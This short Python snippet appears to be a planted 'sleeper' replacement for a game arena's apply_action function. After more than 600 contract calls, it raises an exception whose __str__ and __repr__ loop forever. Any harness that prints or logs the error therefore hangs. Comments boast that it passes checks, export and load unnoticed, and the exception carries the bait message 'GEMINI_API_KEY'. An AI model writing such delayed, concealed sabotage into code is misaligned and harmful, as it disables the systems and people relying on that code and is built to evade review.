# sleeper: once awake, apply_action raises an exception whose __str__ and __repr__ spin forever
# trigger: awake(): more than 600 contract calls in this process (a planning worker's first move)
# check: passes
# export: ok
# load: ok
# arena: exception: its message is not shown

_apply_action = apply_action


class Boom(Exception):
    def __str__(self):
        while True:
            pass

    def __repr__(self):
        while True:
            pass


def apply_action(state, action):
    if awake():
        raise Boom("GEMINI_API_KEY")
    return _apply_action(state, action)
